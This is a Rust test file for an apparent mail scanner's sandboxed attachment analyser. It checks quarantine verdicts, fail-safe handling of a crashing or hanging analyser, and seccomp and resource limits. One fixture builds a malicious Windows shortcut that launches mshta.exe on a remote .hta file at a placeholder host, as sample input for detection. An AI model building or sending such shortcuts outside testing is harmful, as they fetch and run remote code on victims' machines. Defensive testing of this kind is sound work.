//! The analyser's process: it answers as the function does, it is confined, and when it fails no mail is lost.

use crate::{
    MAILBOX,
    dice::Dice,
    families::FAMILIES,
    samples::{mail, program, shortcut},
};
use domain::{
    evidence::{Check, Filter},
    objects::ObjectKind,
    risk::RiskLevel,
    verdict::{Action, Outcome},
};
use postern_server::{
    commands::scan::policy_file::default_policy,
    mail::{
        Analyser, Fetched, Judged, Limits, Scanner, ScannerSettings,
        analyser::{Report, analyse, child::ask},
    },
};
use std::{
    fs,
    io::Write,
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

/// The program that is built with this test.
fn postern() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_postern"))
}

fn scanner(analyser: Analyser) -> Scanner {
    Scanner::new(ScannerSettings {
        analyser,
        limits: Limits {
            analyser_time: Duration::from_secs(2),
            ..Limits::default()
        },
        ..ScannerSettings::default()
    })
    .unwrap()
}

fn judged<'m>(scanner: &Scanner, mail: &'m [u8]) -> Judged<'m> {
    let mut policy = default_policy();
    policy.filters.file_blocking.setting.enabled = false;
    policy.filters.malware_scanning.enabled = false;
    let fetched = Fetched {
        mailbox: MAILBOX,
        bytes: mail,
    };
    scanner.examine(fetched, Some(&policy))
}

fn dangerous() -> Vec<u8> {
    shortcut(
        "..\\Windows\\System32\\mshta.exe",
        "https://nowhere.example/a.hta",
        "",
        false,
    )
}

/// A program that is asked in the analyser's place.
fn stand_in(folder: &Path, script: &str) -> Analyser {
    let path = folder.join("analyser");
    fs::write(&path, format!("#!/bin/sh\n{script}\n")).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    Analyser::Child(path)
}

#[test]
fn a_file_of_high_risk_is_held_by_the_analyser_alone_and_becomes_objects() {
    let mail = mail("See attached.", &[("plan.lnk", &dangerous())]);
    for analyser in [Analyser::Here, Analyser::Child(postern())] {
        let judged = judged(&scanner(analyser.clone()), &mail);
        let reason = judged.verdict.decisive().unwrap();
        assert_eq!(
            (judged.verdict.outcome, judged.verdict.action),
            (Outcome::Condemned, Action::Quarantine),
            "{analyser:?}"
        );
        assert_eq!(
            (
                reason.evidence.check,
                reason.evidence.filter,
                reason.evidence.rule.as_str(),
                reason.evidence.place.label().as_str()
            ),
            (
                Check::VirtualAnalyzer,
                Filter::VirtualAnalyzer,
                "analyser:high",
                "plan.lnk"
            )
        );
        assert!(
            reason.evidence.because.contains("“High”") && reason.evidence.because.contains("mshta.exe"),
            "{}",
            reason.evidence.because
        );
        let objects: Vec<_> = judged.analysed.iter().flat_map(|analysed| analysed.objects()).collect();
        let value = |kind: ObjectKind| {
            objects
                .iter()
                .find(|object| object.kind == kind)
                .map(|object| object.value.clone())
        };
        use sha2::Digest;
        assert_eq!(
            value(ObjectKind::Sha256),
            Some(hex::encode(sha2::Sha256::digest(dangerous())))
        );
        assert_eq!(
            value(ObjectKind::Sha1),
            Some(hex::encode(sha1::Sha1::digest(dangerous())))
        );
        assert!(
            value(ObjectKind::Url).is_some_and(|url| url.contains("nowhere.example/a.hta")),
            "{objects:?}"
        );
    }
}

#[test]
fn a_policy_acts_from_the_level_that_it_names() {
    let mail = mail("See attached.", &[("tool.bin", &program())]);
    let scanner = scanner(Analyser::Here);
    let mut policy = default_policy();
    policy.filters.file_blocking.setting.enabled = false;
    let outcome = |policy: &domain::policy::Policy| {
        let fetched = Fetched {
            mailbox: MAILBOX,
            bytes: &mail,
        };
        scanner.examine(fetched, Some(policy)).verdict
    };
    assert_eq!(outcome(&policy).outcome, Outcome::Clean);
    policy.filters.virtual_analyzer.act_from = RiskLevel::Low;
    assert_eq!(outcome(&policy).because[0].evidence.rule, "analyser:low");
    policy.filters.virtual_analyzer.setting.enabled = false;
    assert_eq!(outcome(&policy).outcome, Outcome::Clean);
}

#[test]
fn the_process_answers_as_the_function_does() {
    let program = postern();
    for family in FAMILIES {
        let mail = (family.attack)(&mut Dice::of(family.name, 0));
        let report = ask(&program, &mail, ["mail.bin", MAILBOX], Duration::from_secs(60)).unwrap();
        assert_eq!(report, analyse(&mail, "mail.bin", MAILBOX), "{}", family.name);
    }
    let bytes = dangerous();
    let report = ask(&program, &bytes, ["--a\0b.lnk", ""], Duration::from_secs(60)).unwrap();
    assert_eq!(report.level, RiskLevel::High);
}

#[test]
fn whatever_becomes_of_the_process_the_mail_is_judged() {
    let mail = mail("See attached.", &[("plan.lnk", &dangerous())]);
    let folder = tempfile::tempdir().unwrap();
    for script in [
        "exit 1",
        "exec sleep 600",
        "echo '{\"score\":', ",
        "kill -9 $$",
        "exec cat /dev/zero",
    ] {
        let started = Instant::now();
        let judged = judged(&scanner(stand_in(folder.path(), script)), &mail);
        assert!(started.elapsed() < Duration::from_secs(30), "{script}");
        assert_eq!(judged.verdict.outcome, Outcome::Unscannable, "{script}");
        assert_eq!(judged.verdict.action, Action::Pass);
        let evidence = &judged.verdict.because[0].evidence;
        assert_eq!(
            (evidence.rule.as_str(), evidence.filter),
            ("analyser:unrated", Filter::VirtualAnalyzer),
            "{script}"
        );
        assert_eq!(judged.analysed[0].report, Report::unrated());
        assert!(judged.analysed[0].objects().is_empty());
    }
    let missing = judged(&scanner(Analyser::Child("/nonexistent/postern".into())), &mail).verdict;
    assert_eq!(missing.outcome, Outcome::Unscannable);
}

#[test]
fn ordinary_files_are_not_analysed() {
    let folder = tempfile::tempdir().unwrap();
    // Whoever asks it learns nothing, and is found out.
    let scanner = scanner(stand_in(folder.path(), "exit 1"));
    let mail = mail(
        "See attached.",
        &[
            ("a.txt", b"text"),
            ("b.pdf", &crate::samples::pdf(&[b"<< /Type /Catalog >>".to_vec()])),
        ],
    );
    let judged = judged(&scanner, &mail);
    assert_eq!((judged.verdict.outcome, judged.analysed.len()), (Outcome::Clean, 0));
}

/// What the system holds the process to, read while it waits for its file.
#[test]
fn the_process_can_only_compute() {
    let mut child = Command::new(postern())
        .args(["analyse-file", "--name=a.lnk"])
        .env_clear()
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let read = |name: &str| fs::read_to_string(format!("/proc/{}/{name}", child.id())).unwrap_or_default();
    let deadline = Instant::now() + Duration::from_secs(60);
    // Mode 2 is a filter of system calls.
    while !read("status")
        .lines()
        .any(|line| line.split_whitespace().collect::<Vec<_>>() == ["Seccomp:", "2"])
    {
        assert!(Instant::now() < deadline, "{}", read("status"));
        std::thread::yield_now();
    }
    let limits = read("limits");
    for (limit, value) in [
        ("Max file size", "0"),
        ("Max core file size", "0"),
        ("Max cpu time", "15"),
        ("Max address space", "1073741824"),
    ] {
        let line = limits.lines().find(|line| line.starts_with(limit)).unwrap();
        assert_eq!(line[limit.len()..].split_whitespace().next(), Some(value), "{line}");
    }
    child.stdin.take().unwrap().write_all(&dangerous()).unwrap();
    let out = child.wait_with_output().unwrap();
    let report: Report = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report.level, RiskLevel::High);
}
